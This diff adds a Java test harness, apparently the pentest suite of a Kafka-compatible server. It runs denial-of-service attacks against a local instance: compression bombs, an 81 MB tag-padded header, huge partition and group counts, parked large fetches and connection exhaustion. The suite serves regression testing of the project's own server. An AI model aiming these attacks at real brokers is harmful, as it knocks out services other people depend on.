@@ -1,0 +1,445 @@
+package io.firn.server;
+
+import java.io.IOException;
+import java.nio.ByteBuffer;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.TreeMap;
+import java.util.concurrent.TimeUnit;
+import org.apache.kafka.common.Uuid;
+import org.apache.kafka.common.compress.Compression;
+import org.apache.kafka.common.message.CreateTopicsRequestData;
+import org.apache.kafka.common.message.CreateTopicsRequestData.CreatableTopic;
+import org.apache.kafka.common.message.CreateTopicsResponseData;
+import org.apache.kafka.common.message.DeleteGroupsRequestData;
+import org.apache.kafka.common.message.DescribeConfigsRequestData;
+import org.apache.kafka.common.message.DescribeConfigsRequestData.DescribeConfigsResource;
+import org.apache.kafka.common.message.FetchRequestData;
+import org.apache.kafka.common.message.FetchRequestData.FetchPartition;
+import org.apache.kafka.common.message.FetchRequestData.FetchTopic;
+import org.apache.kafka.common.message.JoinGroupRequestData;
+import org.apache.kafka.common.message.JoinGroupRequestData.JoinGroupRequestProtocol;
+import org.apache.kafka.common.message.ListOffsetsRequestData;
+import org.apache.kafka.common.message.ListOffsetsRequestData.ListOffsetsPartition;
+import org.apache.kafka.common.message.ListOffsetsRequestData.ListOffsetsTopic;
+import org.apache.kafka.common.message.MetadataRequestData;
+import org.apache.kafka.common.message.OffsetCommitRequestData;
+import org.apache.kafka.common.message.OffsetCommitRequestData.OffsetCommitRequestPartition;
+import org.apache.kafka.common.message.OffsetCommitRequestData.OffsetCommitRequestTopic;
+import org.apache.kafka.common.protocol.ApiKeys;
+import org.apache.kafka.common.protocol.ApiMessage;
+import org.apache.kafka.common.record.internal.MemoryRecords;
+import org.apache.kafka.common.record.internal.SimpleRecord;
+
+/**
+ * What one client without rights does to a server, each for some seconds, on several connections.
+ * Each attack was seen to stop an earlier version; {@code bin/pentest} runs it in a JVM of its own.
+ */
+final class Attacks {
+    private static final String FROM = "127.0.0.1";
+    private static final int CONNECTIONS = 4;
+
+    private final int port;
+    private final int seconds;
+    private volatile long endNs;
+    private final Map<String, Integer> outcomes = new TreeMap<>();
+    private final List<Wire> open = new ArrayList<>();
+
+    private Attacks(int port, int seconds) {
+        this.port = port;
+        this.seconds = seconds;
+        begin();
+    }
+
+    /** Called again when an attack is prepared. */
+    private void begin() {
+        endNs = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
+    }
+
+    /** What an attack does on one connection; the number distinguishes the connections. */
+    private interface Attack {
+        void run(Wire wire, int number) throws IOException;
+    }
+
+    /** {@code Attacks NAME PORT SECONDS}. */
+    public static void main(String[] arguments) throws Exception {
+        Attacks attacks =
+                new Attacks(Integer.parseInt(arguments[1]), Integer.parseInt(arguments[2]));
+        attacks.run(arguments[0]);
+        System.out.println(attacks.outcomes);
+        System.exit(0);
+    }
+
+    private void run(String name) throws Exception {
+        switch (name) {
+            case "partitions" -> inParallel(this::createManyPartitions);
+            case "header" -> inParallel(this::sendTaggedHeader);
+            case "configs" -> inParallel(this::describeOneNodeOften);
+            case "timestamps" -> {
+                prepareBomb(Compression.zstd().build(), 20);
+                inParallel((wire, number) -> seekByTimestamp(wire, 100));
+            }
+            case "bomb-zstd" -> bomb(Compression.zstd().build());
+            case "bomb-gzip" -> bomb(Compression.gzip().build());
+            case "bomb-lz4" -> bomb(Compression.lz4().build());
+            case "bomb-snappy" -> bomb(Compression.snappy().build());
+            case "delete-groups" -> {
+                createTopics(500, 1);
+                mentionGroups(20_000);
+                inParallel(this::deleteGroups);
+            }
+            case "fetch-ids" -> {
+                createTopics(1_000, 1);
+                inParallel(this::fetchUnknownIds);
+            }
+            case "groups" -> inParallel((wire, number) -> mentionGroups(wire, 480_000, number));
+            case "pending" -> inParallel(this::joinAndForget);
+            case "cursors" -> {
+                createTopics(1, 10_000);
+                inParallel(this::commitAsManyGroups);
+            }
+            case "producers" -> {
+                createTopics(1, 1);
+                inParallel(this::produceAsMany);
+            }
+            case "connections" -> openConnections(2_000);
+            case "parked" -> inParallel(this::parkLargeFetches);
+            case "metadata" -> {
+                createTopics(10, 1_000);
+                inParallel(this::askAndReadNothing);
+            }
+            default -> throw new IllegalArgumentException("no attack " + name);
+        }
+    }
+
+    private boolean goesOn() {
+        return System.nanoTime() < endNs;
+    }
+
+    private synchronized void count(String outcome) {
+        outcomes.merge(outcome, 1, Integer::sum);
+    }
+
+    /** Repeats an attack on several connections until the time is up; goes on after a failure. */
+    private void inParallel(Attack attack) throws InterruptedException {
+        begin();
+        List<Thread> threads = new ArrayList<>();
+        for (int i = 0; i < CONNECTIONS; i++) {
+            int number = i;
+            Thread thread = new Thread(() -> repeat(attack, number), "attack-" + i);
+            thread.setDaemon(true);
+            thread.start();
+            threads.add(thread);
+        }
+        for (Thread thread : threads) {
+            thread.join(Math.max(1, TimeUnit.NANOSECONDS.toMillis(endNs - System.nanoTime())));
+        }
+    }
+
+    private void repeat(Attack attack, int number) {
+        while (goesOn()) {
+            try (Wire wire = new Wire(FROM, port)) {
+                attack.run(wire, number);
+                count("answered");
+            } catch (IOException | RuntimeException e) {
+                count(e.getClass().getSimpleName());
+                pause(10);
+            }
+        }
+    }
+
+    private static void pause(long ms) {
+        try {
+            Thread.sleep(ms);
+        } catch (InterruptedException e) {
+            Thread.currentThread().interrupt();
+        }
+    }
+
+    private static byte[] request(ApiKeys key, int version, ApiMessage body) {
+        return Wire.request(key, (short) version, body);
+    }
+
+    private static CreateTopicsRequestData topics(String prefix, int count, int partitions) {
+        CreateTopicsRequestData request = new CreateTopicsRequestData().setTimeoutMs(30_000);
+        for (int i = 0; i < count; i++) {
+            request.topics()
+                    .add(
+                            new CreatableTopic()
+                                    .setName(prefix + i)
+                                    .setNumPartitions(partitions)
+                                    .setReplicationFactor((short) 1));
+        }
+        return request;
+    }
+
+    private void createTopics(int count, int partitions) throws IOException {
+        for (int done = 0; done < count; done += 100) {
+            try (Wire wire = new Wire(FROM, port)) {
+                wire.ask(
+                        ApiKeys.CREATE_TOPICS,
+                        7,
+                        topics("t" + done + "-", Math.min(100, count - done), partitions),
+                        new CreateTopicsResponseData());
+            }
+        }
+    }
+
+    // ---- partitions, headers
+
+    private void createManyPartitions(Wire wire, int number) throws IOException {
+        long now = System.nanoTime();
+        wire.send(request(ApiKeys.CREATE_TOPICS, 7, topics("p" + number + "-" + now, 1, 100_000)));
+        wire.receive();
+        wire.send(request(ApiKeys.CREATE_TOPICS, 7, topics("q" + number + "-" + now, 1, 5_000)));
+        wire.receive();
+    }
+
+    /** A produce request may be large, so its header may have 81 MB of tags without content. */
+    private void sendTaggedHeader(Wire wire, int number) throws IOException {
+        int tags = 16_600_000;
+        ByteBuffer bytes = ByteBuffer.allocate(4 + 10 + 4 + 5 * tags);
+        bytes.position(4);
+        bytes.putShort(ApiKeys.PRODUCE.id).putShort((short) 9).putInt(1).putShort((short) -1);
+        varint(bytes, tags);
+        for (int i = 1; i <= tags; i++) {
+            varint(bytes, i);
+            bytes.put((byte) 0);
+        }
+        bytes.flip();
+        bytes.putInt(0, bytes.limit() - 4);
+        byte[] all = new byte[bytes.limit()];
+        bytes.get(all);
+        while (goesOn()) {
+            wire.sendRaw(all);
+        }
+    }
+
+    private static void varint(ByteBuffer out, int value) {
+        int rest = value;
+        while ((rest & ~0x7f) != 0) {
+            out.put((byte) ((rest & 0x7f) | 0x80));
+            rest >>>= 7;
+        }
+        out.put((byte) rest);
+    }
+
+    // ---- one name many times
+
+    private void describeOneNodeOften(Wire wire, int number) throws IOException {
+        DescribeConfigsRequestData request = new DescribeConfigsRequestData();
+        for (int i = 0; i < 20_000; i++) {
+            request.resources()
+                    .add(
+                            new DescribeConfigsResource()
+                                    .setResourceType((byte) 4)
+                                    .setResourceName("1")
+                                    .setConfigurationKeys(null));
+        }
+        byte[] bytes = request(ApiKeys.DESCRIBE_CONFIGS, 4, request);
+        wire.send(bytes);
+        wire.receive();
+    }
+
+    private void prepareBomb(Compression codec, int batches) throws IOException {
+        createTopics(1, 1);
+        // One record of zeros; a seek behind its time has to look into it.
+        MemoryRecords bomb =
+                MemoryRecords.withRecords(
+                        codec,
+                        new SimpleRecord(1_000L, null, new byte[120 << 20]),
+                        new SimpleRecord(2_000L, null, new byte[1]));
+        count("bomb of " + bomb.sizeInBytes() + " bytes");
+        try (Wire wire = new Wire(FROM, port)) {
+            for (int i = 0; i < batches; i++) {
+                count(
+                        "produced with error "
+                                + Asks.produced(wire, "t0-0", 0, Asks.ALL, bomb).errorCode());
+            }
+        }
+    }
+
+    private void seekByTimestamp(Wire wire, int times) throws IOException {
+        ListOffsetsTopic topic = new ListOffsetsTopic().setName("t0-0");
+        for (int i = 0; i < times; i++) {
+            topic.partitions()
+                    .add(new ListOffsetsPartition().setPartitionIndex(0).setTimestamp(1_500L));
+        }
+        ListOffsetsRequestData request =
+                new ListOffsetsRequestData().setReplicaId(-1).setTopics(List.of(topic));
+        wire.send(request(ApiKeys.LIST_OFFSETS, 5, request));
+        wire.receive();
+    }
+
+    private void bomb(Compression codec) throws Exception {
+        prepareBomb(codec, 1);
+        inParallel((wire, number) -> seekByTimestamp(wire, 1));
+    }
+
+    private void mentionGroups(int count) throws IOException {
+        try (Wire wire = new Wire(FROM, port)) {
+            mentionGroups(wire, count, 0);
+        }
+    }
+
+    /** A commit for a topic that does not exist. */
+    private void mentionGroups(Wire wire, int count, int number) throws IOException {
+        int waiting = 0;
+        for (int i = 0; i < count && goesOn(); i++) {
+            OffsetCommitRequestData commit =
+                    new OffsetCommitRequestData()
+                            .setGroupId("g" + number + "-" + i)
+                            .setGenerationIdOrMemberEpoch(-1);
+            wire.send(request(ApiKeys.OFFSET_COMMIT, 8, commit));
+            if (++waiting == 20) {
+                for (; waiting > 0; waiting--) {
+                    wire.receive();
+                }
+            }
+        }
+        for (; waiting > 0; waiting--) {
+            wire.receive();
+        }
+    }
+
+    private void deleteGroups(Wire wire, int number) throws IOException {
+        List<String> names = new ArrayList<>();
+        for (int i = 0; i < 20_000; i++) {
+            names.add("g0-" + i);
+        }
+        wire.send(
+                request(
+                        ApiKeys.DELETE_GROUPS,
+                        2,
+                        new DeleteGroupsRequestData().setGroupsNames(names)));
+        wire.receive();
+    }
+
+    private void fetchUnknownIds(Wire wire, int number) throws IOException {
+        FetchRequestData request = new FetchRequestData().setMaxWaitMs(1_000).setMinBytes(1);
+        for (int i = 0; i < 20_000; i++) {
+            request.topics()
+                    .add(
+                            new FetchTopic()
+                                    .setTopicId(Uuid.randomUuid())
+                                    .setPartitions(List.of(new FetchPartition().setPartition(0))));
+        }
+        wire.send(request(ApiKeys.FETCH, 13, request));
+        wire.receive();
+    }
+
+    // ---- what is remembered
+
+    private void joinAndForget(Wire wire, int number) throws IOException {
+        String client = "c".repeat(32_000);
+        for (int i = 0; i < 5_500 && goesOn(); i++) {
+            JoinGroupRequestData join =
+                    new JoinGroupRequestData()
+                            .setGroupId("pending" + number)
+                            .setSessionTimeoutMs(1_800_000)
+                            .setRebalanceTimeoutMs(1_800_000)
+                            .setProtocolType("consumer")
+                            .setMemberId("");
+            join.protocols()
+                    .add(new JoinGroupRequestProtocol().setName("range").setMetadata(new byte[8]));
+            wire.send(Wire.request(ApiKeys.JOIN_GROUP, (short) 4, join, client));
+            wire.receive();
+        }
+    }
+
+    private void commitAsManyGroups(Wire wire, int number) throws IOException {
+        for (int i = 0; i < 900 && goesOn(); i++) {
+            OffsetCommitRequestData commit =
+                    new OffsetCommitRequestData()
+                            .setGroupId("cursor" + number + "-" + i)
+                            .setGenerationIdOrMemberEpoch(-1);
+            OffsetCommitRequestTopic topic = new OffsetCommitRequestTopic().setName("t0-0");
+            for (int p = 0; p < 10_000; p++) {
+                topic.partitions()
+                        .add(
+                                new OffsetCommitRequestPartition()
+                                        .setPartitionIndex(p)
+                                        .setCommittedOffset(0)
+                                        .setCommittedMetadata("m".repeat(100)));
+            }
+            commit.topics().add(topic);
+            wire.send(request(ApiKeys.OFFSET_COMMIT, 8, commit));
+            wire.receive();
+        }
+    }
+
+    private void produceAsMany(Wire wire, int number) throws IOException {
+        int waiting = 0;
+        for (long id = 0; goesOn(); id++) {
+            wire.send(
+                    Asks.produceBytes(
+                            "t0-0",
+                            0,
+                            (short) 1,
+                            Asks.batch(id * CONNECTIONS + number, 0, new byte[1])));
+            if (++waiting == 20) {
+                for (; waiting > 0; waiting--) {
+                    wire.receive();
+                }
+            }
+        }
+    }
+
+    // ---- connections, memory
+
+    private void openConnections(int count) {
+        for (int i = 0; i < count && goesOn(); i++) {
+            try {
+                open.add(new Wire(FROM, port));
+            } catch (IOException e) {
+                count(e.getClass().getSimpleName());
+                pause(10);
+            }
+        }
+        count("opened " + open.size());
+        while (goesOn()) {
+            pause(100);
+        }
+    }
+
+    /** Fetches of 8 MB that wait for ten minutes. */
+    private void parkLargeFetches(Wire wire, int number) throws IOException {
+        FetchTopic topic = new FetchTopic().setTopic("t0-0");
+        List<FetchPartition> partitions = new ArrayList<>();
+        for (int i = 0; i < 100_000; i++) {
+            partitions.add(new FetchPartition().setPartition(0));
+        }
+        createTopics(1, 1);
+        FetchRequestData request =
+                new FetchRequestData()
+                        .setMaxWaitMs(600_000)
+                        .setMinBytes(1)
+                        .setTopics(List.of(topic.setPartitions(partitions)));
+        byte[] bytes = request(ApiKeys.FETCH, 12, request);
+        for (int i = 0; i < 16; i++) {
+            wire.send(bytes);
+        }
+        while (goesOn()) {
+            pause(100);
+        }
+    }
+
+    private void askAndReadNothing(Wire wire, int number) throws IOException {
+        List<Wire> all = new ArrayList<>();
+        byte[] bytes = request(ApiKeys.METADATA, 12, new MetadataRequestData().setTopics(null));
+        for (int i = 0; i < 200 && goesOn(); i++) {
+            Wire each = new Wire(FROM, port);
+            all.add(each);
+            for (int k = 0; k < 32; k++) {
+                each.send(bytes);
+            }
+        }
+        while (goesOn()) {
+            pause(100);
+        }
+        for (Wire each : all) {
+            each.close();
+        }
+    }
+}
